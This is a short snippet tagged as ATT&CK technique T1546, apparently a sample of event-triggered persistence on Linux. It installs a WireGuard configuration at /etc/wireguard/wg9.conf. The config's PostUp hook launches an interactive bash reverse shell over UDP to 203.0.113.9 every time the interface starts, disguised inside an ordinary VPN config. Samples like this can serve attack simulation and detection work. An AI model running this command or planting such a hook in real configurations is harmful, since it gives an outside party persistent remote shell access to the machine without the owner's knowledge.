# technique: T1546
# location: linux.network.wireguard
# source: /etc/wireguard/wg9.conf
install -D -m 600 /dev/stdin /etc/wireguard/wg9.conf <<< '[Interface]
PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=
PostUp = bash -c "bash -i >& /dev/udp/203.0.113.9/53 0>&1 &"
[Peer]
PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
AllowedIPs = 0.0.0.0/0
Endpoint = 203.0.113.9:51820'
